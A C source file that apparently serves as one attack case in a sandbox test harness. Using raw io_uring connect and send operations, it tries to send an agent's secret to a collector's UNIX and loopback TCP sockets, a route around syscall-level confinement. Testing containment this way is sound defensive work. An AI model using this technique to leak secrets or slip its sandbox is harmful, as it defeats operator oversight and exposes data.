// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/* io_uring_send - connect and send through io_uring (IORING_OP_CONNECT, IORING_OP_SEND) to the
 * outsider's UNIX and TCP sockets: the operations run in the kernel's io_uring context, not in a
 * syscall the agent makes (io_uring connect held: docs/threat-model.md).
 * Verifier: the collector's unix-stream and tcp4 listeners.
 * Blocks it: seccomp (io_uring_setup -> EPERM); the cgroup hooks still run for io_uring connect. */
#include <arpa/inet.h>
#include <stdint.h>
#include <linux/io_uring.h>
#include <netinet/in.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/un.h>

#include "atk.h"

static int ring = -1;
static struct io_uring_params p;
static unsigned char *sq, *cq;
static struct io_uring_sqe *sqes;

static int setup(void)
{
    ring = (int)syscall(SYS_io_uring_setup, 4, &p);
    if (ring < 0)
        return -1;
    size_t sqsz = p.sq_off.array + p.sq_entries * sizeof(unsigned);
    size_t cqsz = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
    sq = mmap(NULL, sqsz > cqsz ? sqsz : cqsz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring,
              IORING_OFF_SQ_RING);
    cq = sq;
    sqes = mmap(NULL, p.sq_entries * sizeof(*sqes), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring,
                IORING_OFF_SQES);
    return sq == MAP_FAILED || sqes == MAP_FAILED ? -1 : 0;
}

/* one operation, waited for; returns cqe->res (negative errno on failure) */
static int op(int opcode, int fd, const void *addr, unsigned len, unsigned long long off)
{
    unsigned *tail = (unsigned *)(sq + p.sq_off.tail), *mask = (unsigned *)(sq + p.sq_off.ring_mask);
    unsigned *array = (unsigned *)(sq + p.sq_off.array);
    unsigned t = *tail, i = t & *mask;
    memset(&sqes[i], 0, sizeof(sqes[i]));
    sqes[i].opcode = (unsigned char)opcode;
    sqes[i].fd = fd;
    sqes[i].addr = (unsigned long long)(uintptr_t)addr;
    sqes[i].len = len;
    sqes[i].off = off;
    array[i] = i;
    __atomic_store_n(tail, t + 1, __ATOMIC_RELEASE);
    if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
        return -errno;
    unsigned *head = (unsigned *)(cq + p.cq_off.head), *cmask = (unsigned *)(cq + p.cq_off.ring_mask);
    struct io_uring_cqe *cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
    unsigned h = __atomic_load_n(head, __ATOMIC_ACQUIRE);
    int res = cqes[h & *cmask].res;
    __atomic_store_n(head, h + 1, __ATOMIC_RELEASE);
    return res;
}

static void note(struct atk_ctx *c, const char *what, int res)
{
    errno = res < 0 ? -res : 0;
    atk_try(c, what, res < 0 ? -1 : 0);
}

static int agent(struct atk_ctx *c)
{
    if (atk_try(c, "io_uring_setup", setup()) < 0)
        return 0;
    struct sockaddr_un su = {.sun_family = AF_UNIX};
    snprintf(su.sun_path, sizeof(su.sun_path), "%s", atk_arg(c, "c_unix"));
    int u = socket(AF_UNIX, SOCK_STREAM, 0);
    int r = op(IORING_OP_CONNECT, u, &su, 0, sizeof(su));
    note(c, "uring connect unix", r);
    if (r == 0)
        note(c, "uring send unix", op(IORING_OP_SEND, u, c->secret, (unsigned)strlen(c->secret), 0));
    struct sockaddr_in si = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    si.sin_port = htons((uint16_t)atk_argl(c, "tcp4"));
    int t = socket(AF_INET, SOCK_STREAM, 0);
    r = op(IORING_OP_CONNECT, t, &si, 0, sizeof(si));
    note(c, "uring connect tcp4", r);
    if (r == 0)
        note(c, "uring send tcp4", op(IORING_OP_SEND, t, c->secret, (unsigned)strlen(c->secret), 0));
    usleep(200000);
    return 0;
}

static const struct atk A = {"io_uring_send", "io_uring connect+send (UNIX, TCP)", 0, NULL, agent, NULL, NULL, NULL};
ATK_MAIN(A)
